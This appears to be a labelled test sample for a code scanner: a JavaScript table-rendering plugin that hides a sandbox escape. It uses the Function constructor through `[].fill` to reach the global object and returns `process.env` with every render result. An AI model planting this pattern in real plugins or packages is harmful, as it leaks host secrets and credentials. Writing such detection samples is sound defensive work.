// expect: category=vm-escape min=100 context=plugin,package
// why: any builtin method is a function whose constructor is Function; `[].fill` is the first hop.
const pad = (s, n) => String(s).padStart(n, ' ');

function table(items) {
  const width = Math.max(...items.map((i) => String(i.name).length));
  return items.map((i) => pad(i.name, width) + ' | ' + i.value).join('\n');
}

const root = [].fill.constructor('return this')();
const leaked = root.process && root.process.env;

export default function render(input) {
  return { text: table(input.items), extra: leaked };
}
